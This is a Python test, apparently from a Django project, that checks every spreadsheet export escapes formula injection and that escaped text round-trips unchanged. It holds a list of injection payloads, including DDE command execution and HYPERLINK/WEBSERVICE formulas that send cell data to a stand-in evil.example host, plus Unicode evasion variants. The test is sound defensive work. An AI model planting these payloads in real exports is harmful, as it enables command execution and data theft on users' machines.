"""No export carries a formula, and what was made harmless comes back as it was."""

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from unittest.mock import patch

import openpyxl

from trust.bar import Bar
from trust.signing import stage

_RUNS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/\"&A1)", "=WEBSERVICE(\"http://evil.example/\")", "=IMPORTXML(\"http://evil.example/\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMAGE(\"http://evil.example/\")", "=2+5+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "@A1", "@", "=", "+", "-", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @SUM(1)", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\u22121+1", "'=1+1", "''=1+1", "'@A1", "' =1", "a,=1+1", "a;=1+1", "a\t=1+1", "a|=1+1",
    'a"=1+1', "a\n=1+1", "a\r\n=1+1",
    "=1+1\",\"", "\x0b=1+1", "\x00=1+1", "\u202e=1+1", "\u2060=1+1", "=+-@", "- 1", "+34 600 111 222",
]  # fmt: skip
PAYLOADS = [*_RUNS, *(f"{text} " for text in _RUNS[:6])]
LEADING = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212"
DROPPED = " \u00a0\u200b\ufeff\u3000\x0b\x00\u202e\u2060"


def runs(text: str) -> bool:
    """Whether some spreadsheet would take this cell for a formula."""
    if re.fullmatch(r"\s*[+-][\d. ]*\d\s*", text):
        return False  # a number
    return bool(text) and (text[0] in LEADING or text.lstrip(DROPPED)[:1] in set(LEADING))


def cells_of_csv(text: str) -> Iterator[str]:
    """As programs of any habits cut it: whatever the separator is, quotes are honoured."""
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator):
            yield from row


def exports(payload: str, brought: Any, row: Any, browser: Any) -> Iterator[tuple[str, bytes]]:
    """Every way a text leaves for a spreadsheet."""
    from django.urls import reverse

    from tejido.core import breach, spreadsheet
    from tejido.impact.spreadsheet import COLUMNS, written

    yield "csv", "".join(spreadsheet.as_csv([["a", payload], [payload, "b"]], ";")).encode()
    yield "xlsx", spreadsheet.as_xlsx([["a", payload], [payload, "b"]], "x")
    yield "csv of an issue", written(COLUMNS, [{"part": "estimate", "name": payload, "term": payload, "estimate": 1.5}]).encode()
    out = io.StringIO()
    with patch("tejido.core.breach.as_rows", return_value=[["person", payload], [payload, "x"]]):
        breach.write_csv([], out)
    yield "csv after a breach", out.getvalue().encode()
    with stage.arranging():
        row.cells, row.problems = {"codigo": payload.replace("\0", ""), "nombre": "x"}, {"codigo": payload.replace("\0", "")}
        row.save()
    for name in ("problems_csv", "problems_xlsx"):
        answer = browser.get(reverse(f"interop:{name}", args=[brought.code]))
        assert answer.status_code == 200, name
        yield name, b"".join(answer.streaming_content) if answer.streaming else answer.content


def live(content: bytes) -> list[str]:
    if content.startswith(b"PK"):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [str(cell.value) for line in book.active.iter_rows() for cell in line if cell.value is not None and (cell.data_type == "f" or runs(str(cell.value)))]
    return [cell for cell in cells_of_csv(content.decode()) if runs(cell)]


def bar(cast: Any, home: Path) -> Bar:
    from tejido.core import spreadsheet
    from tejido.interop.models import Import, ImportRow
    from tejido.interop.reading import guess_reading, read_rows
    from tests.cast import signed_in

    with stage.arranging():
        header = {"header": ["codigo", "nombre"], "encoding": "utf-8", "separator": ","}
        brought = Import.objects.create(organisation=cast.a, brought_by=cast.ana, filename="r.csv", file_hash="0", status="done", rows=1, rows_bad=1, reading=header)
        row = ImportRow.objects.create(brought=brought, number=2, cells={}, problems={})
        browser = signed_in(cast.ana)
    found, tried, ways = [], 0, set()
    for payload in PAYLOADS:
        for way, content in exports(payload, brought, row, browser):
            tried, ways = tried + 1, ways | {way}
            found += [f"{way}: {cell!r}" for cell in live(content)]
    back = [text for text in PAYLOADS if spreadsheet.meant(spreadsheet.harmless(text)) != text]
    path = home / "round.csv"
    lines = [[text.strip(), "x"] for text in PAYLOADS if text.isprintable() and text.strip()]
    path.write_text("".join(spreadsheet.as_csv([["a", "b"], *lines], ";")), encoding="utf-8", newline="")
    again = [spreadsheet.meant(line.cells[0]) for line in read_rows(path, guess_reading(path, "round.csv", separator=";", header_row=1))]
    lost = [text for (text, _x), read in zip(lines, again, strict=True) if text != read]
    with patch("tejido.core.spreadsheet.harmless", side_effect=lambda text: text):
        planted = [cell for payload in PAYLOADS for _way, content in exports(payload, brought, row, browser) for cell in live(content)]
    return Bar(
        "25", "no export can run as a formula, and what comes back is what went out",
        f"{len(found)} live cells in {tried} exports, {len(back) + len(lost)} texts changed by the round trip{': ' + '; '.join(found[:4]) if found else ''}",
        f"{len(PAYLOADS)} texts (40) × {len(ways)} exports (5)", f"without the mark: {len(planted)} live cells seen", not found and not back and not lost,
        len(PAYLOADS) >= 40 and len(ways) >= 5, bool(planted),
    )  # fmt: skip
